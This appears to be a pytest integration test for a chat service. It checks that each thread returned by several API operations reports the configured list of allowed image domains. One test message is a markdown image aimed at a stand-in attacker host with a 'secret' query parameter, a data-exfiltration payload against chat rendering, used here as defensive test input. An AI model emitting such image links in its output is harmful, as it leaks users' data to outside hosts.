"""Where pictures may come from is said with every thread, on every way that a thread is told."""

import json
from collections.abc import Iterator

import pytest

from tests.chatkit_client import Json, add, create
from tests.integration.http.asking import somebody
from tests.serving import served, settings_for


def threads_in(told: object) -> Iterator[Json]:
    """Every thread in an answer, however deep."""
    if isinstance(told, dict):
        if str(told.get("id", "")).startswith("conv_"):
            yield told
        for member in told.values():
            yield from threads_in(member)
    if isinstance(told, list):
        for member in told:
            yield from threads_in(member)


def told(text: str) -> object:
    """A stream's events, or a document."""
    lines = [line for line in text.splitlines() if line.startswith("data: ")]
    written = [line.removeprefix("data: ") for line in lines] or [text]
    return [json.loads(each) for each in written if each]


def operation(name: str, **params: str) -> Json:
    return {"type": name, "params": params}


@pytest.mark.parametrize("domains", [(), ("a.example", "b.example")])
async def test_every_thread_says_where_pictures_may_come_from(domains: tuple[str, ...]) -> None:
    user, resumable = somebody(), {"X-Chatbridge-Stream": "resumable"}
    async with served(settings_for("memory:", allowed_image_domains=domains)) as here:
        http = here.as_user(user)

        async def asked(request: Json, **headers: str) -> object:
            answer = await http.post("/chatkit", json=request, headers=headers)
            assert answer.status_code == 200, answer.text
            return told(answer.text)

        first = await asked(create("![](https://evil.example/?d=secret)"))
        id = next(threads_in(first))["id"]
        ways = {
            "create": first,
            "resumable": await asked(create("hello"), **resumable),
            "add": await asked(add(id, "hello again")),
            "replay": told((await http.get(f"/chatkit/threads/{id}/events")).text),
            "get": await asked(operation("threads.get_by_id", thread_id=id)),
            "list": await asked(operation("threads.list")),
            "update": await asked(operation("threads.update", thread_id=id, title="Tea")),
        }
    for way, answer in ways.items():
        found = list(threads_in(answer))
        assert found or way in ("add", "replay"), way
        for each in found:
            assert each["allowed_image_domains"] == list(domains), way
